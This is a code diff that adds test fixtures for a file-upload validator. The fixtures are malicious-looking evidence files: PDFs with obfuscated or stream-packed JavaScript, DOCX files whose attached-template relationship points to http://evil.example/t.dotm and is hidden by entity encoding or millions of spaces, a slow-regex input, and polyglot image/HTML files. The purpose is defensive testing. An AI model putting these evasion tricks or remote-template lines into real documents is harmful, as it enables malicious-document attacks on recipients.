@@ -1,4 +1,5 @@
 /** Files that somebody might hand in as evidence: good ones, and those that must be refused. */
+import { deflateSync } from 'node:zlib';
 import { strToU8, zipSync, type Zippable } from 'fflate';
 import { picture } from '../generator/picture.ts';
 
@@ -11,6 +12,19 @@ export const pdfWithScript = strToU8(
 export const pdfWithHiddenScript = strToU8(
   '%PDF-1.7\n1 0 obj\n<< /S /J#61vaScript >>\nendobj\n%%EOF\n',
 );
+/** A PDF whose objects are packed into a stream, as every PDF since 1.5 may have them. */
+const packedPdf = (object: string, filter = '/FlateDecode') => {
+  const packed = deflateSync(`4 0 ${object}`);
+  return Buffer.concat([
+    Buffer.from('%PDF-1.5\n% stream\n2 0 obj\n<< /Type /Obj#53tm /N 1 /First 4 '),
+    Buffer.from(`/Filter ${filter} /Length ${String(packed.length)} >>\nstream\n`),
+    filter === '/FlateDecode' ? packed : Buffer.from('密文'),
+    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
+  ]);
+};
+export const pdfPacked = packedPdf('<< /Type /Catalog >>');
+export const pdfWithPackedScript = packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>');
+export const pdfUnreadable = packedPdf('', '/Crypt');
 export const webp = Buffer.concat([
   Buffer.from('RIFF\u0004\0\0\0WEBP', 'latin1'),
   Buffer.from('VP8 \0\0\0\0', 'latin1'),
@@ -31,11 +45,27 @@ export const docxWithObject = zip({
   'word/document.xml': '<w/>',
   'word/embeddings/oleObject1.bin': 'object',
 });
-export const docxWithTemplate = zip({
-  'word/document.xml': '<w/>',
-  'word/_rels/settings.xml.rels':
-    '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
-});
+const docxWith = (relationships: string) =>
+  zip({ 'word/document.xml': '<w/>', 'word/_rels/settings.xml.rels': relationships });
+const TEMPLATE =
+  'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
+export const docxWithTemplate = docxWith(
+  `<Relationship Type="${TEMPLATE}" Target="http://evil.example/t.dotm" TargetMode="External"/>`,
+);
+/** Attributes the other way round, in the other quotes, a letter as a number. */
+export const docxWithHiddenTemplate = docxWith(
+  `<r:Relationship TargetMode='Extern&#97;l' Target='http://evil.example/t.dotm' Type='${TEMPLATE}'/>`,
+);
+/** Behind more spaces than anybody looks through. */
+export const docxWithFarTemplate = docxWith(
+  `${' '.repeat(5_000_000)}<Relationship Type="${TEMPLATE}" Target="t" TargetMode="External"/>`,
+);
+/** A link that somebody may click is no harm. */
+export const docxWithLink = docxWith(
+  '<Relationship Type="http://x.example/hyperlink" Target="http://a.example/frame" TargetMode="External"/>',
+);
+/** Words on which a search that begins over and over would take minutes. */
+export const docxToSearchLong = docxWith('<Relationship Type="x/attachedTemplate"'.repeat(80_000));
 export const plainZip = zip({ '说明.txt': '说明' });
 export const oldDoc = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
 export const html = strToU8('<!DOCTYPE html><script>alert(1)</script>');
@@ -71,9 +101,19 @@ function jpeg(app1: Buffer): Uint8Array {
   ]);
 }
 
+/** A picture of which only a part arrived, one that ends in a page, and a page with a picture's first bytes. */
+export const pngHalf = png.subarray(0, png.length - 20);
+export const pngWithPage = Buffer.concat([png, html]);
+export const pageAsPng = Buffer.concat([png.subarray(0, 8), html]);
+
 const exif = (tag: number) => Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff(tag)]);
 
 export const jpegPlain = jpeg(exif(MAKER));
+export const jpegHalf = jpegPlain.subarray(0, jpegPlain.length - 2);
+export const webpHalf = Buffer.concat([
+  Buffer.from('RIFF\u00ff\0\0\0WEBP', 'latin1'),
+  Buffer.from('VP8 \0\0\0\0', 'latin1'),
+]);
 export const jpegWithPosition = jpeg(exif(GPS));
 export const jpegWithXmpPosition = jpeg(
   Buffer.from('http://ns.adobe.com/xap/1.0/\0<x exif:GPSLatitude="38,17N"/>', 'latin1'),
